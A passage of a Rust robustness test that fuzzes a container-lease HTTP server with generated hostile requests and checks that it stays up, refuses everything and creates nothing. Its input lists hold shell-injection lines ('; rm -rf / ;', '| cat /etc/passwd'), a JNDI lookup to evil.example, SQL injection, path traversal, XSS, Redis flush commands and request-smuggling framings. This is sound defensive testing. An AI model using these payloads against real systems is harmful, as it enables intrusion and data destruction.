//! Scenario 8 — hostile input over HTTP, against the real `lease-server`
//! binary on real Docker.
//!
//! A corpus generated with proptest strategies (methods, request targets
//! with traversal and encoding tricks, headers, content types, framings and
//! bodies: malformed, deeply nested, huge, wrong-typed JSON and
//! injection-looking strings) is sent over raw TCP with bounded concurrency.
//! The server must answer no 5xx, never panic (still alive, `/healthz`
//! answers), create no container and no lease, and keep its memory bounded
//! (VmRSS read from `/proc/<pid>/status` before, midway and after).
//!
//! No request of the corpus can be a valid provision: the generators send
//! the offline catalog's keys ([`KEYS`]) only with an invalid
//! `durationMinutes`, and a final filter ([`could_provision`]) drops any
//! request whose body the server could accept as a provision.
//!
//! The rebinding set ([`rebinding_and_cross_site_requests_get_nothing`]):
//! what a DNS-rebinding page (foreign `Host`) and a cross-site page (foreign
//! `Origin`) can send to a single-user server — provisions, deletes,
//! extends, event streams, log WebSockets — is refused and changes nothing,
//! while a local client and the server's own page are served.
//!
//! Quick form: 10,000 requests; `LEASE_RELIABILITY=long`: 100,000.
//! The quick form always sends the same corpus (a fixed seed); the long form
//! draws a seed per run. `LEASE_HOSTILE_SEED=<n>` replays a corpus (the seed
//! is printed).

// Test code: a panic is how a check reports failure.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use lease_reliability::docker::{self, NamespaceGuard};
use lease_reliability::raw_http::{RawOutcome, exchange};
use lease_reliability::server::{self, Server, ServerApi};
use lease_reliability::{Scale, figure, random_namespace};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use serde_json::{Map, Number, Value, json};

/// The offerings of the offline catalog the server runs with.
const KEYS: &[&str] = &["alpine", "ubuntu", "busybox"];

/// Whether `body` could be accepted by `POST /api/provision`: a JSON object
/// with a known `imageType` and no or a plausible `durationMinutes`.
fn could_provision(body: &[u8]) -> bool {
    let Ok(Value::Object(object)) = serde_json::from_slice::<Value>(body) else {
        return false;
    };
    let known = object
        .get("imageType")
        .and_then(Value::as_str)
        .is_some_and(|key| KEYS.contains(&key));
    let duration_ok = match object.get("durationMinutes") {
        None | Some(Value::Null) => true,
        Some(Value::Number(n)) => n.as_i64().is_some_and(|m| (1..=480).contains(&m)),
        Some(_) => false,
    };
    known && duration_ok
}

/// The quick form's corpus (fixed, so CI always sends the same requests;
/// the long form draws a new seed each run).
const QUICK_SEED: u64 = 20_261_129;

/// Concurrent connections.
const CONCURRENCY: usize = 16;

/// RSS growth allowed from the warmed-up figure to the end.
const RSS_GROWTH_LIMIT_KB: u64 = 64 * 1024;

// ---------------------------------------------------------------------------
// The corpus.

/// One generated request.
#[derive(Clone, Debug)]
struct HostileRequest {
    method: String,
    target: String,
    version: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
    framing: Framing,
}

/// How the body is delimited.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Framing {
    /// A correct `Content-Length`.
    Length,
    /// `Transfer-Encoding: chunked`, correctly chunked.
    Chunked,
    /// Both a `Content-Length` and chunked (a smuggling attempt).
    Both,
    /// Two different `Content-Length` headers.
    TwoLengths,
    /// A `Content-Length` shorter than the body (the rest is garbage after
    /// the request).
    Short,
    /// No length header at all (only with an empty body).
    None,
}

impl HostileRequest {
    fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.body.len() + 512);
        out.extend_from_slice(self.method.as_bytes());
        out.push(b' ');
        out.extend_from_slice(self.target.as_bytes());
        if !self.version.is_empty() {
            out.push(b' ');
            out.extend_from_slice(self.version.as_bytes());
        }
        out.extend_from_slice(b"\r\n");
        for (name, value) in &self.headers {
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(b": ");
            out.extend_from_slice(value);
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(b"Connection: close\r\n");
        let length = self.body.len();
        match self.framing {
            Framing::Length => {
                out.extend_from_slice(format!("Content-Length: {length}\r\n").as_bytes());
            }
            Framing::Chunked => out.extend_from_slice(b"Transfer-Encoding: chunked\r\n"),
            Framing::Both => out.extend_from_slice(
                format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n").as_bytes(),
            ),
            Framing::TwoLengths => out.extend_from_slice(
                format!(
                    "Content-Length: {length}\r\nContent-Length: {}\r\n",
                    length + 1
                )
                .as_bytes(),
            ),
            Framing::Short => {
                out.extend_from_slice(format!("Content-Length: {}\r\n", length / 2).as_bytes())
            }
            Framing::None => {}
        }
        out.extend_from_slice(b"\r\n");
        match self.framing {
            Framing::Chunked | Framing::Both => {
                for chunk in self.body.chunks(4096) {
                    out.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
                    out.extend_from_slice(chunk);
                    out.extend_from_slice(b"\r\n");
                }
                out.extend_from_slice(b"0\r\n\r\n");
            }
            _ => out.extend_from_slice(&self.body),
        }
        out
    }

    /// A one-line description for failure reports.
    fn summary(&self) -> String {
        let headers: Vec<String> = self
            .headers
            .iter()
            .map(|(n, v)| {
                let v = String::from_utf8_lossy(v);
                format!("{n}: {}", clip(&v, 60))
            })
            .collect();
        format!(
            "{} {} {} {:?} headers {:?} body ({} bytes) {}",
            clip(&self.method, 20),
            clip(&self.target, 120),
            clip(&self.version, 20),
            self.framing,
            headers,
            self.body.len(),
            clip(&String::from_utf8_lossy(&self.body), 200)
        )
    }
}

fn clip(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        text.to_owned()
    } else {
        let cut: String = text.chars().take(max).collect();
        format!("{cut}…({} chars)", text.chars().count())
    }
}

/// Strings that look like attacks or confuse parsers.
const INJECTIONS: &[&str] = &[
    "'; DROP TABLE leases; --",
    "\" OR \"1\"=\"1",
    "' OR '1'='1",
    "$(reboot)",
    "`id`",
    "; rm -rf / ;",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%s%s%s%s%n",
    "\u{0000}",
    "alpine\u{0000}",
    "alpine\n",
    " alpine",
    "ALPINE",
    "alpine ",
    "Ubuntu",
    "busybox\t",
    "debian",
    "containerlease-test/busybox:latest",
    "docker.io/library/alpine:latest",
    "\u{202e}enilpla",
    "ａｌｐｉｎｅ",
    "🐳",
    "\u{feff}",
    "*",
    "KEYS *",
    "FLUSHALL",
    "\r\nFLUSHALL\r\n",
    "*1\r\n$8\r\nFLUSHALL\r\n",
    "EVAL \"return redis.call('flushall')\" 0",
    "io.containerlease.namespace=default",
    "container-aaaaaaaaaaaaaaaaaaaa",
    "",
];

/// Lease ids that are not ids.
const TRICKY_IDS: &[&str] = &[
    "..",
    "../..",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%252e%252e%252f",
    "..%5c..%5cwindows",
    "%00",
    "container-%00",
    "container-aaaaaaaaaaaaaaaaaaaa%00.json",
    "%ff%fe%fd",
    "%c0%ae%c0%ae/",
    "%e2%80%ae",
    "'%20OR%20'1'='1",
    "1;DROP%20TABLE%20leases",
    "$(id)",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
    "{{7*7}}",
    "<script>",
    "*",
    "%",
    "%zz",
    "container-",
    "CONTAINER-AAAAAAAAAAAAAAAAAAAA",
    "container-aaaaaaaaaaaaaaaaaaaa/../../provision",
    "/etc/passwd",
    "\\",
    "%5C",
    "null",
    "undefined",
    "-1",
    "0",
    "99999999999999999999999",
    "container-a%20a",
    "container-\u{00e9}t\u{00e9}",
];

const STATIC_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/healthz",
    "/readyz",
    "/metrics",
    "/openapi.json",
    "/api/catalog",
    "/api/containers",
    "/api/history",
    "/api/usage",
    "/api/provision",
    "/api/events",
    "/ui/",
    "/ui/app.js",
    "/favicon.ico",
    "/api",
    "/api/",
    "/ws/logs/",
    "/api/provision/",
    "/API/PROVISION",
    "/api//provision",
    "//api/provision",
    "/api/./provision",
    "/api/../api/provision",
    "/api/provision%2f..",
    "/api/%70rovision",
    "/ui/../../../../etc/passwd",
    "/ui/..%2f..%2f..%2fCargo.toml",
    "/ui/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/ui/....//....//etc/passwd",
    "/ui/%00",
    "/ui/..\\..\\Cargo.toml",
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/.env",
    "/.git/config",
    "/api/containers/",
    "/api/containers//status",
    "http://127.0.0.1/api/containers",
    "http://evil.example/api/provision",
    "https://evil.example:443/",
    "*",
    "",
    "api/containers",
    "/api/containers#fragment",
    "/api/containers?",
];

const CONTENT_TYPES: &[&str] = &[
    "application/json",
    "application/json",
    "application/json",
    "application/json; charset=utf-8",
    "application/json; charset=utf-16",
    "application/json;charset=\"utf-8\"",
    "APPLICATION/JSON",
    "application/jsonx",
    "application/json-patch+json",
    "application/problem+json",
    "application/vnd.api+json",
    "text/json",
    "text/plain",
    "text/html",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz",
    "application/xml",
    "application/octet-stream",
    "*/*",
    "",
    ";;;",
    "application/json; boundary=",
    "application",
];

fn percent_encode_all(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut out, b| {
        let _ = write!(out, "%{b:02X}");
        out
    })
}

/// Printable ASCII, spaces and `%` encoded, other characters left raw.
fn half_encoded(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            ' ' => "%20".to_owned(),
            '#' => "%23".to_owned(),
            '?' => "%3F".to_owned(),
            c => c.to_string(),
        })
        .collect()
}

fn id_strategy() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "container-[A-Za-z0-9_-]{16,24}",
        4 => select(TRICKY_IDS).prop_map(str::to_owned),
        2 => "[!-~]{0,60}".prop_map(|s| half_encoded(&s)),
        1 => prop::collection::vec(any::<u8>(), 0..40).prop_map(|b| percent_encode_all(&b)),
        1 => "\\PC{0,30}",
        1 => (1_usize..20_000).prop_map(|n| "a".repeat(n)),
        1 => select(INJECTIONS).prop_map(|s| percent_encode_all(s.as_bytes())),
    ]
}

fn query_strategy() -> impl Strategy<Value = String> {
    let key = prop_oneof![
        select(
            &[
                "owner",
                "status",
                "limit",
                "cursor",
                "id",
                "imageType",
                "minutes",
                ""
            ][..]
        )
        .prop_map(str::to_owned),
        "[a-z%]{1,12}",
    ];
    let value = prop_oneof![
        select(
            &[
                "-1",
                "0",
                "1001",
                "99999999999999999999",
                "running,pending",
                "running,,,",
                "bogus",
                "%00",
                "..%2f..%2f",
                "admin",
                "local",
                "*",
                "true",
                "null",
                "%ff",
                "%",
            ][..]
        )
        .prop_map(str::to_owned),
        "[!-~]{0,40}".prop_map(|s| half_encoded(&s)),
        (1_usize..10_000).prop_map(|n| "z".repeat(n)),
    ];
    prop::collection::vec((key, value), 1..6).prop_map(|pairs| {
        pairs
            .into_iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("&")
    })
}

fn target_strategy() -> impl Strategy<Value = String> {
    let path = prop_oneof![
        6 => select(STATIC_PATHS).prop_map(str::to_owned),
        3 => id_strategy().prop_map(|id| format!("/api/containers/{id}")),
        3 => id_strategy().prop_map(|id| format!("/api/containers/{id}/status")),
        3 => id_strategy().prop_map(|id| format!("/api/containers/{id}/extend")),
        2 => id_strategy().prop_map(|id| format!("/ws/logs/{id}")),
        1 => id_strategy().prop_map(|id| format!("/ui/{id}")),
        1 => (id_strategy(), id_strategy()).prop_map(|(a, b)| format!("/api/containers/{a}/{b}")),
        1 => "/[!-~]{0,80}",
        1 => "\\PC{0,40}".prop_map(|s| format!("/{s}")),
    ];
    (path, prop::option::weighted(0.3, query_strategy())).prop_map(|(path, query)| match query {
        Some(query) => format!("{path}?{query}"),
        None => path,
    })
}

fn method_strategy() -> impl Strategy<Value = String> {
    prop_oneof![
        12 => select(&["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"][..])
            .prop_map(str::to_owned),
        2 => select(&["POST", "DELETE"][..]).prop_map(str::to_owned),
        1 => select(&["TRACE", "CONNECT", "PROPFIND", "get", "Post", "DELETE ", "G\tET"][..])
            .prop_map(str::to_owned),
        1 => "[A-Z]{1,12}",
        1 => "[!-~]{1,12}",
    ]
}

fn version_strategy() -> impl Strategy<Value = String> {
    prop_oneof![
        30 => Just("HTTP/1.1".to_owned()),
        3 => Just("HTTP/1.0".to_owned()),
        1 => select(&["HTTP/2.0", "HTTP/0.9", "HTTP/9.9", "http/1.1", "HTTP/1.1 extra", "", "HTTP/1"][..])
            .prop_map(str::to_owned),
    ]
}

/// Zero or more header groups, each one or more headers.
fn headers_strategy() -> impl Strategy<Value = Vec<(String, Vec<u8>)>> {
    let text = |name: &str, value: &str| (name.to_owned(), value.as_bytes().to_vec());
    let group = prop_oneof![
        6 => select(CONTENT_TYPES).prop_map(move |ct| vec![text("Content-Type", ct)]),
        2 => ("X-[A-Za-z0-9-]{1,20}", "[ -~]{0,100}")
            .prop_map(|(n, v)| vec![(n, v.into_bytes())]),
        1 => select(&["Bearer ", "Bearer x", "Basic YWRtaW46YWRtaW4=", "Bearer ../../etc/passwd", "Negotiate", ""][..])
            .prop_map(move |v| vec![text("Authorization", v)]),
        1 => (1_usize..8_000).prop_map(|n| vec![("Authorization".to_owned(), format!("Bearer {}", "t".repeat(n)).into_bytes())]),
        1 => select(&["*/*", "text/html", "application/xml", "text/event-stream", "application/json;q=0", "\u{00ff}"][..])
            .prop_map(move |v| vec![text("Accept", v)]),
        1 => select(&["http://evil.example", "null", "file://", "http://127.0.0.1:1"][..])
            .prop_map(move |v| vec![text("Origin", v)]),
        1 => Just(vec![
            text("Upgrade", "websocket"),
            text("Connection", "Upgrade"),
            text("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
            text("Sec-WebSocket-Version", "13"),
        ]),
        1 => select(&["gzip", "br", "deflate", "identity", "bogus"][..])
            .prop_map(move |v| vec![text("Content-Encoding", v)]),
        1 => Just(vec![text("Expect", "100-continue")]),
        1 => select(&["evil.example", "", "127.0.0.1:0", "[::1", "a b", "\u{00e9}"][..])
            .prop_map(move |v| vec![text("Host", v)]),
        1 => select(&["bytes=0-1", "bytes=-1", "bytes=99999999999999-"][..])
            .prop_map(move |v| vec![text("Range", v)]),
        1 => "[0-9.,: a-f]{0,60}".prop_map(move |v| vec![text("X-Forwarded-For", &v)]),
        1 => prop::collection::vec(0x80_u8..=0xff, 1..50)
            .prop_map(|v| vec![("X-Obs-Text".to_owned(), v)]),
        1 => prop::collection::vec(any::<u8>(), 1..30)
            .prop_map(|v| vec![("X-Raw".to_owned(), v)]),
        1 => select(&["Bad Header", "Bad:Header", "", "X-\u{00e9}", "(x)"][..])
            .prop_map(|n| vec![(n.to_owned(), b"v".to_vec())]),
        1 => (1_usize..120_000).prop_map(|n| vec![("X-Huge".to_owned(), vec![b'h'; n])]),
        1 => (50_usize..400).prop_map(|n| (0..n).map(|i| (format!("X-Many-{i}"), b"v".to_vec())).collect()),
        1 => (1_usize..5_000).prop_map(|n| vec![("Cookie".to_owned(), format!("session={}", "c".repeat(n)).into_bytes())]),
    ];
    prop::collection::vec(group, 0..5).prop_map(|groups| groups.into_iter().flatten().collect())
}

/// Any JSON value, small.
fn json_value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_filter_map("finite", |f| Number::from_f64(f).map(Value::Number)),
        "\\PC{0,30}".prop_map(Value::from),
        select(INJECTIONS).prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 32, 6, |inner| {
        let key = prop_oneof![
            select(
                &[
                    "imageType",
                    "durationMinutes",
                    "minutes",
                    "owner",
                    "id",
                    "status",
                    "__proto__",
                    "constructor",
                    ""
                ][..]
            )
            .prop_map(str::to_owned),
            "\\PC{0,12}",
        ];
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec((key, inner), 0..6)
                .prop_map(|pairs| Value::Object(pairs.into_iter().collect::<Map<_, _>>())),
        ]
    })
}

/// A `durationMinutes` the server must refuse (as a raw JSON token).
fn invalid_duration() -> impl Strategy<Value = String> {
    prop_oneof![
        (i64::MIN..=0).prop_map(|n| n.to_string()),
        (481_i64..=i64::MAX).prop_map(|n| n.to_string()),
        select(
            &[
                "1.5",
                "2.0",
                "1e2",
                "-0.0",
                "\"5\"",
                "\"\"",
                "true",
                "false",
                "[]",
                "[5]",
                "{}",
                "{\"$gt\":0}",
                "1e999",
                "-1e999",
                "99999999999999999999999999",
                "NaN",
                "Infinity",
                "0x10",
                "+5",
                "05",
                ".5",
                "5.",
                "--5",
            ][..]
        )
        .prop_map(str::to_owned),
    ]
}

/// An `imageType` that is not one of [`KEYS`] (as a JSON value).
fn wrong_image_type() -> impl Strategy<Value = Value> {
    prop_oneof![
        4 => select(INJECTIONS).prop_map(Value::from),
        2 => "[a-z0-9._-]{1,20}".prop_map(Value::from),
        1 => "\\PC{0,40}".prop_map(Value::from),
        1 => (1_usize..100_000).prop_map(|n| Value::from("k".repeat(n))),
        2 => json_value(),
    ]
    .prop_filter("not a real key", |v| {
        !v.as_str().is_some_and(|k| KEYS.contains(&k))
    })
}

fn body_strategy() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        // Provision-shaped with a wrong imageType (any duration, extra fields).
        6 => (
            wrong_image_type(),
            prop::option::of(json_value()),
            prop::collection::vec(("\\PC{0,10}", json_value()), 0..2),
        )
            .prop_map(|(image, duration, extra)| {
                let mut object = Map::new();
                object.insert("imageType".to_owned(), image);
                if let Some(duration) = duration {
                    object.insert("durationMinutes".to_owned(), duration);
                }
                for (k, v) in extra {
                    if k != "imageType" && k != "durationMinutes" {
                        object.insert(k, v);
                    }
                }
                Value::Object(object).to_string().into_bytes()
            }),
        // A real key, always with an invalid duration.
        4 => (select(KEYS), invalid_duration(), prop::option::of(("[a-z]{1,8}", json_value())))
            .prop_map(|(key, duration, extra)| {
                let extra = extra
                    .map(|(k, v)| format!(",{}:{}", Value::from(k), v))
                    .unwrap_or_default();
                format!("{{\"imageType\":\"{key}\",\"durationMinutes\":{duration}{extra}}}")
                    .into_bytes()
            }),
        // Extend-shaped.
        2 => json_value().prop_map(|v| json!({"minutes": v}).to_string().into_bytes()),
        // Anything JSON.
        3 => json_value().prop_map(|v| v.to_string().into_bytes()),
        // Deeply nested.
        1 => (1_usize..100_000, any::<bool>()).prop_map(|(depth, objects)| {
            if objects {
                format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth)).into_bytes()
            } else {
                format!("{}1{}", "[".repeat(depth), "]".repeat(depth)).into_bytes()
            }
        }),
        // Huge (over the 64 KiB body limit, up to 2 MiB).
        1 => (60_000_usize..2_000_000).prop_map(|n| {
            format!(
                "{{\"imageType\":\"alpine\",\"durationMinutes\":0,\"pad\":\"{}\"}}",
                "x".repeat(n)
            )
            .into_bytes()
        }),
        // Malformed.
        3 => select(
            &[
                "{", "}", "[", "{\"imageType\":", "{\"imageType\":\"alpine\",}", "{imageType:\"alpine\"}",
                "{'imageType':'alpine'}", "{\"imageType\":\"alpine\" \"durationMinutes\":2}",
                "{\"imageType\":\"\\ud800\"}", "{\"imageType\":\"\\u00\"}", "{\"imageType\":\"a\nb\"}",
                "/* c */ {\"imageType\":\"alpine\"}", "\u{feff}{\"imageType\":\"alpine\",\"durationMinutes\":0}",
                "null", "true", "0", "-", "\"\"", "[]", "{}", " ", "\n\n", "{\"\":\"\"}",
                "{\"imageType\":null}", "{\"durationMinutes\":2}", "{\"minutes\":}",
                "imageType=alpine&durationMinutes=2", "<xml><imageType>alpine</imageType></xml>",
                "{\"imageType\":\"alpine\",\"durationMinutes\":2}{\"imageType\":\"alpine\"}",
                "{\"imageType\":\"alpine\",\"imageType\":\"ubuntu\",\"durationMinutes\":0}",
            ][..]
        )
        .prop_map(|s| s.as_bytes().to_vec()),
        // A truncated JSON document.
        2 => (json_value(), any::<prop::sample::Index>()).prop_map(|(v, cut)| {
            let text = v.to_string().into_bytes();
            let at = cut.index(text.len().max(1));
            text[..at.min(text.len())].to_vec()
        }),
        // Raw bytes.
        2 => prop::collection::vec(any::<u8>(), 0..2_000),
        // JSON in UTF-16.
        1 => json_value().prop_map(|v| {
            v.to_string()
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect()
        }),
        // A huge number.
        1 => (1_usize..20_000).prop_map(|n| {
            format!("{{\"imageType\":\"ubuntu\",\"durationMinutes\":{}}}", "9".repeat(n)).into_bytes()
        }),
        // Empty.
        3 => Just(Vec::new()),
    ]
}

fn framing_strategy() -> impl Strategy<Value = Framing> {
    prop_oneof![
        20 => Just(Framing::Length),
        4 => Just(Framing::Chunked),
        1 => Just(Framing::Both),
        1 => Just(Framing::TwoLengths),
        1 => Just(Framing::Short),
        1 => Just(Framing::None),
    ]
}

/// A request in pieces: method, target, version, whether to send `Host`,
/// headers, body, framing.
type Parts = (
    String,
    String,
    String,
    bool,
    Vec<(String, Vec<u8>)>,
    Vec<u8>,
    Framing,
);

/// Requests aimed at the JSON decoders: `POST` to the provision or extend
/// route, a JSON content type, sound framing.
fn decoder_strategy() -> impl Strategy<Value = Parts> {
    let target = prop_oneof![
        3 => Just("/api/provision".to_owned()),
        1 => id_strategy().prop_map(|id| format!("/api/containers/{id}/extend")),
    ];
    let content_type = select(&CONTENT_TYPES[..7])
        .prop_map(|ct| ("Content-Type".to_owned(), ct.as_bytes().to_vec()));
    (
        target,
        content_type,
        prop::collection::vec(("X-[A-Za-z0-9-]{1,20}", "[ -~]{0,40}"), 0..3),
        body_strategy(),
        prop_oneof![4 => Just(Framing::Length), 1 => Just(Framing::Chunked)],
    )
        .prop_map(|(target, content_type, extra, body, framing)| {
            let mut headers = vec![content_type];
            headers.extend(extra.into_iter().map(|(n, v)| (n, v.into_bytes())));
            (
                "POST".to_owned(),
                target,
                "HTTP/1.1".to_owned(),
                true,
                headers,
                body,
                framing,
            )
        })
}

fn request_strategy() -> impl Strategy<Value = HostileRequest> {
    let anything = (
        method_strategy(),
        target_strategy(),
        version_strategy(),
        prop::bool::weighted(0.95),
        headers_strategy(),
        body_strategy(),
        framing_strategy(),
    );
    prop_oneof![3 => anything, 2 => decoder_strategy()]
        .prop_filter("never a valid provision", |(_, _, _, _, _, body, _)| {
            !could_provision(body)
        })
        .prop_map(
            |(method, target, version, host, mut headers, body, framing)| {
                if host {
                    headers.insert(0, ("Host".to_owned(), b"127.0.0.1".to_vec()));
                }
                let framing = if framing == Framing::None && !body.is_empty() {
                    Framing::Length
                } else {
                    framing
                };
                HostileRequest {
                    method,
                    target,
                    version,
                    headers,
                    body,
                    framing,
                }
            },
        )
}

/// Request `index` of the corpus of `seed` (each one from its own RNG, so
/// any one can be regenerated alone).
fn generate(seed: u64, index: usize) -> HostileRequest {
    let mut bytes = [0_u8; 32];
    bytes[..8].copy_from_slice(&seed.to_le_bytes());
    bytes[8..16].copy_from_slice(&(index as u64).to_le_bytes());
    bytes[16..24].copy_from_slice(b"hostile!");
    let rng = TestRng::from_seed(RngAlgorithm::ChaCha, &bytes);
    let mut runner = TestRunner::new_with_rng(Config::default(), rng);
    request_strategy()
        .new_tree(&mut runner)
        .expect("generate a request")
        .current()
}

// ---------------------------------------------------------------------------
// Running it.

/// What the corpus got back.
#[derive(Default)]
struct Tally {
    statuses: BTreeMap<u16, usize>,
    /// `error.code` of the JSON error answers.
    codes: BTreeMap<String, usize>,
    closed: usize,
    timed_out: usize,
    connect_failed: usize,
    /// 5xx answers: (index, status, request summary, body).
    server_errors: Vec<(usize, u16, String, String)>,
    /// Connect failures and timeouts: (index, what, request summary).
    other_failures: Vec<(usize, String, String)>,
    /// 4xx answers with a body that is not `{"error":{"code","message"}}`.
    unshaped_errors: Vec<(usize, u16, String, String)>,
    /// Answers with a 2xx status to a request that changes something.
    mutating_successes: Vec<(usize, u16, String)>,
}

fn is_error_shape(body: &[u8]) -> bool {
    serde_json::from_slice::<Value>(body).is_ok_and(|v| {
        v.pointer("/error/code").is_some_and(Value::is_string)
            && v.pointer("/error/message").is_some_and(Value::is_string)
    })
}

fn record(tally: &Mutex<Tally>, index: usize, request: &HostileRequest, outcome: &RawOutcome) {
    let mut tally = tally.lock().unwrap_or_else(|p| p.into_inner());
    match outcome {
        RawOutcome::Response { status, body, .. } => {
            *tally.statuses.entry(*status).or_insert(0) += 1;
            if let Some(code) = serde_json::from_slice::<Value>(body).ok().and_then(|v| {
                v.pointer("/error/code")
                    .and_then(Value::as_str)
                    .map(str::to_owned)
            }) {
                *tally.codes.entry(code).or_insert(0) += 1;
            }
            let text = clip(&String::from_utf8_lossy(body), 300);
            if *status >= 500 {
                tally
                    .server_errors
                    .push((index, *status, request.summary(), text));
            } else if (400..500).contains(status)
                && !body.is_empty()
                && !is_error_shape(body)
                && tally.unshaped_errors.len() < 1_000
            {
                tally
                    .unshaped_errors
                    .push((index, *status, request.summary(), text));
            } else if (200..300).contains(status)
                && matches!(request.method.as_str(), "POST" | "PUT" | "PATCH" | "DELETE")
            {
                tally
                    .mutating_successes
                    .push((index, *status, request.summary()));
            }
        }
        RawOutcome::Closed => tally.closed += 1,
        RawOutcome::TimedOut => {
            tally.timed_out += 1;
            tally
                .other_failures
                .push((index, "timed out".to_owned(), request.summary()));
        }
        RawOutcome::ConnectFailed(error) => {
            tally.connect_failed += 1;
            tally.other_failures.push((
                index,
                format!("connect failed: {error}"),
                request.summary(),
            ));
        }
    }
}

/// Sends requests `range` of the corpus with [`CONCURRENCY`] connections.
fn send_range(
    address: SocketAddr,
    seed: u64,
    range: std::ops::Range<usize>,
    tally: &Arc<Mutex<Tally>>,
) {
    let next = Arc::new(AtomicUsize::new(range.start));
    let end = range.end;
    let workers: Vec<_> = (0..CONCURRENCY)
        .map(|_| {
            let (next, tally) = (next.clone(), tally.clone());
            std::thread::spawn(move || {
                loop {
                    let index = next.fetch_add(1, Ordering::SeqCst);
                    if index >= end {
                        return;
                    }
                    let request = generate(seed, index);
                    let outcome = exchange(address, &request.to_bytes(), Duration::from_secs(10));
                    record(&tally, index, &request, &outcome);
                }
            })
        })
        .collect();
    for worker in workers {
        worker.join().expect("a sender thread");
    }
}

#[test]
fn hostile_corpus_gets_no_5xx_creates_nothing_and_memory_stays_bounded() {
    const TEST: &str = "hostile_corpus";
    if !docker::docker_ready() {
        return;
    }
    let scale = Scale::from_env();
    let total: usize = scale.pick(10_000, 100_000);
    let seed: u64 = std::env::var("LEASE_HOSTILE_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| scale.pick(QUICK_SEED, rand::random()));
    let namespace = random_namespace();
    let _guard = NamespaceGuard::new(&namespace);
    let config = server::config(&namespace).max_leases_per_owner(1_000);
    let Some(mut server) = Server::start(config) else {
        return;
    };
    eprintln!(
        "{TEST}: {total} requests, seed {seed} (LEASE_HOSTILE_SEED={seed} replays), namespace {namespace}"
    );
    let address = server.address();
    let pid = server.pid().expect("running");
    let started = Instant::now();
    let tally = Arc::new(Mutex::new(Tally::default()));

    let rss_start = lease_reliability::rss_kb(pid);
    let warm = total / 10;
    let half = total / 2;
    send_range(address, seed, 0..warm, &tally);
    let rss_warm = lease_reliability::rss_kb(pid);
    send_range(address, seed, warm..half, &tally);
    let rss_half = lease_reliability::rss_kb(pid);
    send_range(address, seed, half..total, &tally);
    let rss_end = lease_reliability::rss_kb(pid);
    let elapsed = started.elapsed();
    std::thread::sleep(Duration::from_secs(2));
    let rss_settled = lease_reliability::rss_kb(pid);

    let tally = tally.lock().unwrap_or_else(|p| p.into_inner());
    let five_xx: usize = tally.statuses.range(500..).map(|(_, n)| n).sum();
    eprintln!(
        "{TEST}: {total} requests in {elapsed:.1?} ({:.0}/s); statuses {:?}; closed without an answer {}; timed out {}; connect failures {}; 5xx {five_xx}",
        total as f64 / elapsed.as_secs_f64(),
        tally.statuses,
        tally.closed,
        tally.timed_out,
        tally.connect_failed,
    );
    eprintln!(
        "{TEST}: VmRSS start {rss_start} KiB, after {warm} {rss_warm} KiB, after {half} {rss_half} KiB, after {total} {rss_end} KiB, 2 s later {rss_settled} KiB"
    );
    eprintln!("{TEST}: error codes {:?}", tally.codes);
    figure("scenario8.requests", total);
    figure(
        "scenario8.requests_per_s",
        format!("{:.0}", total as f64 / elapsed.as_secs_f64()),
    );
    figure("scenario8.answers_5xx", five_xx);
    figure("scenario8.hung_or_refused", tally.other_failures.len());
    figure(
        "scenario8.mutations_accepted",
        tally.mutating_successes.len(),
    );
    figure("scenario8.rss_start_kib", rss_start);
    figure("scenario8.rss_after_warmup_kib", rss_warm);
    figure("scenario8.rss_end_kib", rss_settled.max(rss_end));
    eprintln!(
        "{TEST}: 4xx answers with a body that is not the JSON error shape: {}",
        tally.unshaped_errors.len()
    );
    for (index, status, request, body) in tally.unshaped_errors.iter().take(5) {
        eprintln!("  #{index} → {status} {body}\n     {request}");
    }

    // The server survived and answers.
    assert!(
        server.is_running(),
        "lease-server died:\n{}",
        server.log_text()
    );
    let health = server
        .api()
        .request("GET", "/healthz", None)
        .expect("GET /healthz");
    assert_eq!(
        health.status, 200,
        "/healthz after the corpus: {:?}",
        health.body
    );
    let log = server.log_text();
    assert!(
        !log.contains("panicked"),
        "the server log shows a panic:\n{}",
        log.lines()
            .filter(|l| l.contains("panicked"))
            .take(5)
